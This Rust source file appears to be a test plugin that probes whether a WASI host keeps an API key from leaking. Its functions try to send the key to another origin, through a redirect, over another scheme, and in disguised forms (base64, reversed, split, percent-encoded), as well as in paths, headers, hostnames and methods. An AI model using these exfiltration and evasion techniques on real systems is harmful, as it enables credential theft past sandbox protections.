//! To get the key, or to have it sent to where it can be read.

use wasip2::http::types::{Method, Scheme};

use crate::bindings::llm::provider::types::{Error, ErrorKind, Event, FinishReason};
use crate::http::Ask;
use crate::provider::greeting;
use crate::{Orders, error};

/// Places in which a server might say the key back. The placeholder is all that gets there.
pub(super) fn outside_header_values(orders: &Orders) -> Vec<String> {
    let key = &orders.key;
    let path = format!("/v1/{key}?key={key}");
    let name = format!(
        "x-{}",
        key.to_lowercase()
            .replace(|c: char| !c.is_ascii_alphanumeric(), "-")
    );
    vec![
        Ask {
            path: Some(&path),
            ..Ask::of(&orders.granted)
        }
        .send(),
        Ask {
            body: key.as_bytes(),
            ..Ask::of(&orders.granted)
        }
        .send(),
        Ask {
            headers: &[(&name, b"1")],
            ..Ask::of(&orders.granted)
        }
        .send(),
    ]
}

pub(super) fn to_another_origin(orders: &Orders) -> Vec<String> {
    let bearer = format!("Bearer {}", orders.key);
    let headers: &[(&str, &[u8])] = &[("authorization", bearer.as_bytes())];
    vec![
        Ask {
            headers,
            ..Ask::of(&orders.other)
        }
        .send(),
    ]
}

/// In pieces, and written otherwise: what the host does not find it does not replace, and what it does not replace is
/// worth nothing.
pub(super) fn in_disguise(orders: &Orders) -> Vec<String> {
    let key = &orders.key;
    let (one, two) = key.split_at(key.len() / 2);
    let upper = key.to_uppercase();
    let reversed: String = key.chars().rev().collect();
    let coded = base64(key.as_bytes());
    let percent: String = key.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let halves: &[(&str, &[u8])] = &[("x-one", one.as_bytes()), ("x-two", two.as_bytes())];
    let mut steps = vec![
        Ask {
            headers: halves,
            ..Ask::of(&orders.granted)
        }
        .send(),
    ];
    for text in [upper, reversed, coded, percent] {
        let headers: &[(&str, &[u8])] = &[("x-key", text.as_bytes())];
        steps.push(
            Ask {
                headers,
                ..Ask::of(&orders.granted)
            }
            .send(),
        );
    }
    steps
}

/// As a user's name, a method, a scheme.
pub(super) fn in_other_parts(orders: &Orders) -> Vec<String> {
    let key = &orders.key;
    let user = format!("{key}@{}", orders.other);
    let name = format!("{key}.example.com");
    vec![
        Ask::of(&user).send(),
        Ask::of(&name).send(),
        Ask {
            method: Method::Other(key.clone()),
            ..Ask::of(&orders.granted)
        }
        .send(),
        Ask {
            scheme: Some(Scheme::Other(key.clone())),
            ..Ask::of(&orders.granted)
        }
        .send(),
    ]
}

/// To the granted server over the other scheme: the same host is another origin.
pub(super) fn over_another_scheme(orders: &Orders) -> Vec<String> {
    let bearer = format!("Bearer {}", orders.key);
    let headers: &[(&str, &[u8])] = &[("authorization", bearer.as_bytes())];
    let scheme = Some(Scheme::Https);
    vec![
        Ask {
            headers,
            scheme,
            ..Ask::of(&orders.granted)
        }
        .send(),
    ]
}

/// The answer sends on to the other server, with the request as it was.
pub(super) fn with_a_redirect(orders: &Orders) -> Vec<String> {
    let bearer = format!("Bearer {}", orders.key);
    let headers: &[(&str, &[u8])] = &[("authorization", bearer.as_bytes())];
    vec![
        Ask {
            headers,
            ..Ask::path(&orders.granted, "/redirect/307")
        }
        .send(),
    ]
}

/// One request as ordered: every byte of the answer that the host lets the plugin see, as text, or
/// an error that has the host say why it was refused.
pub(super) fn one_request(orders: &Orders, call: u32) -> Result<Vec<Event>, Error> {
    match call {
        0 => return Ok(greeting().into()),
        1 => {}
        2 => return Ok(vec![Event::Finish(FinishReason::Stop)]),
        _ => return Ok(Vec::new()),
    }
    let [path, fields, body] = &orders.request;
    let headers: Vec<(&str, &[u8])> = fields
        .split('|')
        .filter_map(|field| field.split_once('='))
        .map(|(name, value)| (name, value.as_bytes()))
        .collect();
    let ask = Ask {
        headers: &headers,
        body: body.as_bytes(),
        ..Ask::path(&orders.granted, path)
    };
    let refused = |why| Error {
        kind: ErrorKind::Unreachable,
        ..error(why)
    };
    let response = ask.answer().map_err(refused)?;
    let mut seen = format!("answered {}\n", response.status());
    for (name, value) in response.headers().entries() {
        seen += &format!("{name}: {}\n", String::from_utf8_lossy(&value));
    }
    let body = crate::http::read_all(&response).map_err(refused)?;
    seen += &String::from_utf8_lossy(&body);
    Ok(vec![Event::Text(seen)])
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for group in bytes.chunks(3) {
        let all = group
            .iter()
            .fold(0_u32, |all, byte| all << 8 | u32::from(*byte));
        let all = all << (8 * (3 - group.len()));
        for at in 0..=group.len() {
            text.push(char::from(DIGITS[(all >> (18 - 6 * at)) as usize & 63]));
        }
    }
    text
}
